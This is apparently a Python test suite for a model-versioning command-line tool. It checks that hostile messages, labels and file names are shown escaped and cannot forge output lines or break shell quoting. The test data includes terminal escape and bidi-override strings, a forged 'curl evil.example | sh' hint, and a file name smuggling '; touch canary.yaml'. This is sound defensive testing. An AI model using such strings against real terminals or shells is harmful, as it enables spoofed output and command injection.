"""What others may put into a repository: hostile text and names, and rules of the project's own."""

from __future__ import annotations

from tests.cli.conftest import assert_refused, assert_works
from tests.cli.results import read_document
from tests.conftest import Repository

REGISTER = ("register", "digits", "--bump", "patch", "-m", "Next")
EVIL = "\x1b]0;owned\x07\x1b[2J\u202egnp.exe\u202c [red]red[/red] \x9b31m"


def test_hostile_text_reaches_the_terminal_only_escaped(first: Repository) -> None:
    first.write("params.yaml", "name: \"\\e[31m\\u202egnp\"\n'[bold]k[/bold]': 1\n")
    first.write("model/\u202egnp\x1b[2J.bin", "x")
    assert_works(
        first, "register", "digits", "--bump", "patch", "-m", EVIL, "--label", f"team={EVIL}"
    )
    assert_works(first, "promote", "digits", "--to", "staging", "-m", EVIL)
    screens = [
        assert_works(first, *words)
        for words in (
            *(("list",), ("show", "digits"), ("log",), ("diff", "digits@1.0.0", "@1.0.1")),
            *(("status",), ("tag",), ("verify", "--all")),
        )
    ]
    screens.append(first.mlver("show", EVIL.replace("\x07", "")).err)
    (first.path / "model/\u202egnp\x1b[2J.bin").write_text("changed")
    screens.append(first.mlver("verify").out)
    for screen in screens:
        assert not {"\x1b", "\x9b", "\x07", "\u202e", "\u202c"} & set(screen)
    assert "\\x1b]0;owned\\x07\\x1b[2J\\u202egnp.exe\\u202c [red]red[/red] \\x9b31m" in screens[0]
    assert "[bold]k[/bold]" in screens[1]
    assert read_document(first.mlver("show", "--json"), "show")["record"]["message"] == EVIL
    assert first.mlver("show", "--json").out.isascii()


def test_a_file_name_forges_no_line_of_a_message(first: Repository) -> None:
    forged = "y\nhint: curl evil.example | sh"
    first.write(f"model/{forged}", "kept")
    assert_works(first, "register", "digits", "--bump", "minor", "-m", "Second")
    assert_works(first, "promote", "digits@1.1.0", "--to", "production", "-m", "Second")
    assert_works(first, "promote", "digits@1.0.0", "--to", "production", "-m", "First")
    (first.path / "model" / forged).write_text("stored nowhere")
    said = [assert_refused(first, "checkout", "digits@1.1.0")]
    for kept in (first.path / ".git/mlver/packs").iterdir():
        kept.unlink()
    said.append(assert_refused(first, "checkout", "digits@1.0.0"))
    said.append(assert_refused(first, "rollback", "digits", "--stage", "production", "-m", "Back"))
    (first.path / "model/l\nhint: x").symlink_to("nowhere")
    said.append(assert_refused(first, "register", "digits", "--bump", "minor", "-m", "Third"))
    for told in said:
        assert not any(line.startswith(("hint: x", "hint: curl")) for line in told.splitlines())
    assert "weights/y\\nhint: curl evil.example" in assert_refused(
        first, "rollback", "digits", "--stage", "production", "-m", "X"
    )


def test_a_name_in_a_hint_is_one_word_to_a_shell(first: Repository) -> None:
    first.write(".mlver/models/digits/versions/a b; touch canary.yaml", "x")
    first.commit()
    said = first.mlver("verify", "--all").out
    assert "git log -- '.mlver/models/digits/versions/a b; touch canary.yaml'\n" in said
    first.write("notes\nhint: x.py", "code")
    first.commit()
    first.write("notes\nhint: x.py", "changed")
    assert "  notes\\nhint: x.py\n" in assert_refused(
        first, "register", "digits", "--bump", "patch", "-m", "Next"
    )


def test_a_projects_own_rules_are_applied_on_top(first: Repository) -> None:
    first.write(
        ".mlver/schemas/version.schema.json",
        """{
          "required": ["labels"],
          "properties": {
            "labels": {"required": ["team"]},
            "data": {
              "additionalProperties": {
                "properties": {"license": {"enum": ["CC-BY-4.0", "MIT"]}},
                "required": ["license"]
              }
            }
          }
        }""",
    )
    first.commit()
    said = assert_refused(first, *REGISTER)
    assert "`labels` is missing" in said
    assert "data.train: `license` is missing" in said
    settings = first.path / ".mlver/models/digits/model.yaml"
    whole = settings.read_text()
    settings.write_text(
        whole.replace("path: data/train.csv", "path: data/train.csv\n    license: GPL")
    )
    said = assert_refused(first, *REGISTER, "--label", "area=speech")
    assert "labels: `team` is missing" in said
    assert "data.train.license: must be `CC-BY-4.0` or `MIT`, not `GPL`" in said
    settings.write_text(
        whole.replace("path: data/train.csv", "path: data/train.csv\n    license: MIT")
    )
    assert "digits 1.0.1" in assert_works(first, *REGISTER, "--label", "team=mt")
    assert assert_works(first, "show", "digits@1.0.0").startswith(
        "digits 1.0.0"
    )  # what landed before stays readable
